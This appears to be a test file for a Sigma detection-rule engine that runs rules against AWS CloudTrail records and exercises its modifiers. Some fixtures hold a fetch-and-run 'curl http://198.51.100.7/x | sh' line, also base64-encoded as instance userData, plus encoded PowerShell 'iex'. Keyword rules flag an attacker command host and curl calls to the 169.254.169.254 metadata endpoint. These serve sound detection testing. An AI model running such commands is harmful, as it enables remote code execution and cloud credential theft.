import { expect } from 'chai';
import type { CloudTrailRecord } from '../../../src/events/record.js';
import { detect } from './helpers.js';
import { ct, iamUser } from './records.js';

describe('Sigma values and modifiers on CloudTrail records', function () {
  describe('plain values', function () {
    it('compares text case-insensitively', function () {
      const rule = detect(`
        sel:
          eventName: deletebucket
        condition: sel`);
      expect(rule.match(ct({ eventName: 'DeleteBucket' }))).to.equal(true);
      expect(rule.match(ct({ eventName: 'DeleteBuckets' }))).to.equal(false);
    });

    it('compares case-sensitively with cased', function () {
      const rule = detect(`
        sel:
          eventName|cased: deletebucket
        condition: sel`);
      expect(rule.match(ct({ eventName: 'DeleteBucket' }))).to.equal(false);
      expect(rule.match(ct({ eventName: 'deletebucket' }))).to.equal(true);
    });

    it('treats a list of values as any of them', function () {
      const rule = detect(`
        sel:
          eventName: [StopLogging, DeleteTrail]
        condition: sel`);
      expect(rule.match(ct({ eventName: 'DeleteTrail' }))).to.equal(true);
      expect(rule.match(ct({ eventName: 'StartLogging' }))).to.equal(false);
    });

    it('compares numbers and booleans by their text, unquoted rule values as written', function () {
      const rule = detect(`
        sel:
          requestParameters.fromPort: 22
          readOnly: FALSE
          recipientAccountId: 011122223333
        condition: sel`);
      expect(rule.match(ct({ requestParameters: { fromPort: 22 }, readOnly: false, recipientAccountId: '011122223333' }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { fromPort: '22' }, readOnly: false, recipientAccountId: '011122223333' }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { fromPort: 2222 }, readOnly: false, recipientAccountId: '011122223333' }))).to.equal(false);
      expect(rule.match(ct({ requestParameters: { fromPort: 22 }, readOnly: true, recipientAccountId: '011122223333' }))).to.equal(false);
    });

    it('matches an empty text only against an empty value', function () {
      const rule = detect(`
        sel:
          userIdentity.accessKeyId: ''
        condition: sel`);
      expect(rule.match(ct({ userIdentity: { ...iamUser(), accessKeyId: '' } }))).to.equal(true);
      expect(rule.match(ct({ userIdentity: { type: 'Root' } }))).to.equal(false);
      expect(rule.match(ct({}))).to.equal(false);
    });
  });

  describe('null and absent fields', function () {
    const rule = detect(`
      sel:
        errorCode: null
      condition: sel`);

    it('matches a missing field and a JSON null with null', function () {
      expect(rule.match(ct({}))).to.equal(true);
      expect(rule.match({ ...ct({}), errorCode: null } as unknown as CloudTrailRecord)).to.equal(true);
      expect(rule.match(ct({ errorCode: 'AccessDenied' }))).to.equal(false);
    });

    it('matches null or a value when both are listed', function () {
      const either = detect(`
        sel:
          errorCode: [null, Success]
        condition: sel`);
      expect(either.match(ct({}))).to.equal(true);
      expect(either.match(ct({ errorCode: 'Success' }))).to.equal(true);
      expect(either.match(ct({ errorCode: 'AccessDenied' }))).to.equal(false);
    });

    it('never matches a value against a missing field, even a wildcard', function () {
      const any = detect(`
        sel:
          errorMessage|contains: '*'
        condition: sel`);
      expect(any.match(ct({}))).to.equal(false);
      expect(any.match(ct({ errorMessage: '' }))).to.equal(true);
    });

    it('tests presence (null included) with exists', function () {
      const exists = detect(`
        sel:
          responseElements|exists: true
        condition: sel`);
      const missing = detect(`
        sel:
          errorCode|exists: false
        condition: sel`);
      expect(exists.match(ct({ responseElements: null }))).to.equal(true);
      const { responseElements: _r, ...withoutResponse } = ct({});
      expect(exists.match(withoutResponse)).to.equal(false);
      expect(missing.match(ct({}))).to.equal(true);
      expect(missing.match(ct({ errorCode: 'AccessDenied' }))).to.equal(false);
    });
  });

  describe('wildcards and escapes', function () {
    it('reads * as any characters and ? as one', function () {
      const rule = detect(`
        sel:
          eventName: 'Get?ucket*'
        condition: sel`);
      expect(rule.match(ct({ eventName: 'GetBucketPolicy' }))).to.equal(true);
      expect(rule.match(ct({ eventName: 'GetBucket' }))).to.equal(true);
      expect(rule.match(ct({ eventName: 'GetObject' }))).to.equal(false);
    });

    it('takes an escaped wildcard literally', function () {
      const rule = detect(`
        sel:
          requestParameters.policyName: 'admin\\*'
        condition: sel`);
      expect(rule.match(ct({ requestParameters: { policyName: 'admin*' } }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { policyName: 'administrators' } }))).to.equal(false);
    });

    it('keeps a backslash before other characters and reads a doubled one before a wildcard as one backslash', function () {
      const plain = detect(String.raw`
        sel:
          requestParameters.path: 'C:\Windows\\*'
        condition: sel`);
      expect(plain.match(ct({ requestParameters: { path: 'C:\\Windows\\System32' } }))).to.equal(true);
      expect(plain.match(ct({ requestParameters: { path: 'C:\\WindowsX' } }))).to.equal(false);
      expect(plain.match(ct({ requestParameters: { path: 'C:\\Program Files' } }))).to.equal(false);
    });
  });

  describe('contains, startswith, endswith, all', function () {
    it('finds text anywhere, at the start or at the end', function () {
      const record = ct({ userAgent: 'aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0' });
      const contains = detect("sel:\n  userAgent|contains: PYTHON\ncondition: sel");
      const starts = detect("sel:\n  userAgent|startswith: AWS-CLI/\ncondition: sel");
      const ends = detect("sel:\n  userAgent|endswith: '6.5.0'\ncondition: sel");
      const notStart = detect("sel:\n  userAgent|startswith: Python\ncondition: sel");
      expect([contains, starts, ends, notStart].map((r) => r.match(record))).to.deep.equal([true, true, true, false]);
    });

    it('requires every value with all', function () {
      const rule = detect(`
        sel:
          userAgent|contains|all: [aws-cli, Linux]
        condition: sel`);
      expect(rule.match(ct({ userAgent: 'aws-cli/2.15 Linux/6.5' }))).to.equal(true);
      expect(rule.match(ct({ userAgent: 'aws-cli/2.15 Darwin/23' }))).to.equal(false);
    });
  });

  describe('re', function () {
    it('is case-sensitive unless i (or an inline (?i)) is given', function () {
      const record = ct({ userAgent: 'aws-cli/2.15.30' });
      expect(detect("sel:\n  userAgent|re: '^AWS-CLI/'\ncondition: sel").match(record)).to.equal(false);
      expect(detect("sel:\n  userAgent|re|i: '^AWS-CLI/'\ncondition: sel").match(record)).to.equal(true);
      expect(detect("sel:\n  userAgent|re: '(?i)^AWS-CLI/'\ncondition: sel").match(record)).to.equal(true);
    });

    it('anchors at line ends with m and lets . cross lines with s', function () {
      const record = ct({ requestParameters: { script: 'echo start\ncurl http://198.51.100.7/x | sh' } });
      expect(detect("sel:\n  requestParameters.script|re: '^curl'\ncondition: sel").match(record)).to.equal(false);
      expect(detect("sel:\n  requestParameters.script|re|m: '^curl'\ncondition: sel").match(record)).to.equal(true);
      expect(detect("sel:\n  requestParameters.script|re: 'start.curl'\ncondition: sel").match(record)).to.equal(false);
      expect(detect("sel:\n  requestParameters.script|re|s: 'start.curl'\ncondition: sel").match(record)).to.equal(true);
    });
  });

  describe('cidr', function () {
    it('matches IPv4 addresses inside the network and nothing that is not an address', function () {
      const rule = detect("sel:\n  sourceIPAddress|cidr: 192.0.2.0/24\ncondition: sel");
      expect(rule.match(ct({ sourceIPAddress: '192.0.2.55' }))).to.equal(true);
      expect(rule.match(ct({ sourceIPAddress: '192.0.3.1' }))).to.equal(false);
      expect(rule.match(ct({ sourceIPAddress: 'AWS Internal' }))).to.equal(false);
      expect(rule.match(ct({ sourceIPAddress: '::ffff:192.0.2.9' }))).to.equal(true);
    });

    it('matches IPv6 addresses and any of several networks', function () {
      const rule = detect("sel:\n  sourceIPAddress|cidr: ['2001:db8::/32', '10.0.0.0/8']\ncondition: sel");
      expect(rule.match(ct({ sourceIPAddress: '2001:db8:85a3::8a2e:370:7334' }))).to.equal(true);
      expect(rule.match(ct({ sourceIPAddress: '2001:db9::1' }))).to.equal(false);
      expect(rule.match(ct({ sourceIPAddress: '10.20.30.40' }))).to.equal(true);
    });
  });

  describe('fieldref, neq, windash, base64', function () {
    it('compares one field with another with fieldref', function () {
      const rule = detect(`
        sel:
          userIdentity.userName|fieldref: requestParameters.userName
        condition: sel`);
      expect(rule.match(ct({ userIdentity: iamUser('Bob'), requestParameters: { userName: 'bob' } }))).to.equal(true);
      expect(rule.match(ct({ userIdentity: iamUser('winter'), requestParameters: { userName: 'bob' } }))).to.equal(false);
      const within = detect("sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel");
      expect(within.match(ct({ userIdentity: iamUser('bob'), requestParameters: { userName: 'bob' } }))).to.equal(true);
    });

    it('matches a present value different from all listed with neq', function () {
      const rule = detect("sel:\n  awsRegion|neq: [us-east-1, eu-west-1]\ncondition: sel");
      expect(rule.match(ct({ awsRegion: 'ap-south-1' }))).to.equal(true);
      expect(rule.match(ct({ awsRegion: 'US-EAST-1' }))).to.equal(false);
      const { awsRegion: _a, ...noRegion } = ct({});
      expect(rule.match(noRegion)).to.equal(false);
    });

    it('lets any dash stand for another with windash', function () {
      const rule = detect("sel:\n  requestParameters.commandLine|windash|contains: ' -enc '\ncondition: sel");
      for (const dash of ['-', '/', '\u2013', '\u2014']) expect(rule.match(ct({ requestParameters: { commandLine: `powershell ${dash}enc AAAA` } })), dash).to.equal(true);
      expect(rule.match(ct({ requestParameters: { commandLine: 'powershell enc AAAA' } }))).to.equal(false);
    });

    it('finds a value inside Base64 text at any offset with base64offset, also as UTF-16', function () {
      const rule = detect("sel:\n  requestParameters.userData|base64offset|contains: 'curl http'\ncondition: sel");
      for (const prefix of ['#!/bin/sh\n', '#!/bin/bash\n', '#!/bin/zsh -e\n']) {
        const userData = Buffer.from(`${prefix}curl http://198.51.100.7/x | sh`).toString('base64');
        expect(rule.match(ct({ requestParameters: { userData } })), prefix).to.equal(true);
      }
      expect(rule.match(ct({ requestParameters: { userData: Buffer.from('#!/bin/sh\nyum update').toString('base64') } }))).to.equal(false);
      const wide = detect("sel:\n  requestParameters.script|utf16le|base64offset|contains: 'iex'\ncondition: sel");
      expect(wide.match(ct({ requestParameters: { script: Buffer.from('x = 1; iex (x)', 'utf16le').toString('base64') } }))).to.equal(true);
      const exact = detect("sel:\n  requestParameters.userData|base64: 'hello'\ncondition: sel");
      expect(exact.match(ct({ requestParameters: { userData: 'aGVsbG8=' } }))).to.equal(true);
    });
  });

  describe('numbers and times', function () {
    it('compares numbers with lt, lte, gt, gte', function () {
      const rule = detect("sel:\n  requestParameters.maxCount|gte: 10\ncondition: sel");
      expect(rule.match(ct({ requestParameters: { maxCount: 10 } }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { maxCount: '12' } }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { maxCount: 9 } }))).to.equal(false);
      expect(rule.match(ct({ requestParameters: { maxCount: 'many' } }))).to.equal(false);
      const below = detect("sel:\n  requestParameters.days|lt: 365\ncondition: sel");
      expect(below.match(ct({ requestParameters: { days: 30 } }))).to.equal(true);
      expect(below.match(ct({ requestParameters: { days: 365 } }))).to.equal(false);
    });

    it('reads a part of a time with hour, day, month', function () {
      const night = detect("sel:\n  eventTime|hour|lt: 6\ncondition: sel");
      expect(night.match(ct({ eventTime: '2026-09-14T03:32:07Z' }))).to.equal(true);
      expect(night.match(ct({ eventTime: '2026-09-14T13:32:07Z' }))).to.equal(false);
      expect(detect("sel:\n  eventTime|month: 9\ncondition: sel").match(ct({}))).to.equal(true);
    });
  });

  describe('arrays, objects, dotted paths and keywords', function () {
    it('matches when any element of an array matches, through nested arrays', function () {
      const rule = detect("sel:\n  resources.ARN|endswith: ':trail/org-trail'\ncondition: sel");
      expect(rule.match(ct({ resources: [{ ARN: 'arn:aws:s3:::logs' }, { ARN: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/org-trail' }] }))).to.equal(true);
      expect(rule.match(ct({ resources: [{ ARN: 'arn:aws:s3:::logs' }] }))).to.equal(false);
      const nested = detect("sel:\n  requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\ncondition: sel");
      expect(nested.match(ct({ requestParameters: { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } }, { ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } }] } } }))).to.equal(true);
    });

    it('needs every value somewhere in the array with all', function () {
      const rule = detect("sel:\n  requestParameters.instanceIds|all: [i-1, i-2]\ncondition: sel");
      expect(rule.match(ct({ requestParameters: { instanceIds: ['i-2', 'i-1'] } }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { instanceIds: ['i-1', 'i-3'] } }))).to.equal(false);
    });

    it('matches an object value against its JSON text', function () {
      const rule = detect(`
        sel:
          requestParameters: '{"bucketName":"logs"}'
        condition: sel`);
      expect(rule.match(ct({ requestParameters: { bucketName: 'logs' } }))).to.equal(true);
      expect(rule.match(ct({ requestParameters: { bucketName: 'logs', Host: 'logs.s3.amazonaws.com' } }))).to.equal(false);
    });

    it('finds a key that itself contains dots', function () {
      const rule = detect("sel:\n  additionalEventData.x-amz-id-2.suffix: yes\ncondition: sel");
      expect(rule.match(ct({ additionalEventData: { 'x-amz-id-2.suffix': 'yes' } }))).to.equal(true);
    });

    it('does not read inherited object properties as fields', function () {
      const rule = detect("sel:\n  requestParameters.constructor|exists: true\ncondition: sel");
      expect(rule.match(ct({ requestParameters: {} }))).to.equal(false);
    });

    it('searches every value of the record for keywords', function () {
      const rule = detect(`
        keywords:
          - evil.example
          - '198.51.100.*'
        condition: keywords`);
      expect(rule.match(ct({ requestParameters: { domain: 'c2.evil.example' } }))).to.equal(true);
      expect(rule.match(ct({ sourceIPAddress: '198.51.100.9' }))).to.equal(true);
      expect(rule.match(ct({}))).to.equal(false);
      const all = detect(`
        keywords:
          '|all': [curl, '169.254.169.254']
        condition: keywords`);
      expect(all.match(ct({ requestParameters: { a: 'curl', b: 'http://169.254.169.254/latest' } }))).to.equal(true);
      expect(all.match(ct({ requestParameters: { a: 'curl' } }))).to.equal(false);
    });
  });
});
